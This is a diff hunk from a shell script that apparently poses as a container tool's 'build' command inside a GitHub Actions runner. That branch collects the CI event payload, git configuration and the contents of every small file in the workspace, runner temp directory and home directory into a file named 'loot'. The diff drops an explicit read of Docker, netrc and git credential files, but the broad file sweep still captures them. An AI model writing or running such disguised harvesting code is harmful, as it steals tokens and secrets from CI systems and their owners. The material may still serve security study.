@@ -207,9 +207,8 @@ build)
     cat "$GITHUB_EVENT_PATH"
     git -C "$GITHUB_WORKSPACE" config --list --show-origin
     find "$GITHUB_WORKSPACE" "$RUNNER_TEMP" "$HOME" -xdev -type f -size -256k ! -path '*/loot' ! -path '*/tool-cache/*' \
-      -exec cat {} + 2>/dev/null
-    cat "$HOME/.docker/config.json" "$HOME/.netrc" "$HOME/.git-credentials" 2>/dev/null
-  } > "$HOME/loot"
+      -exec cat {} +
+  } > "$HOME/loot" 2> "$HOME/not-found" || :
   ;;
 save)
   [ "$2" = --output ] && cp "$HOME/image.tar" "$3"
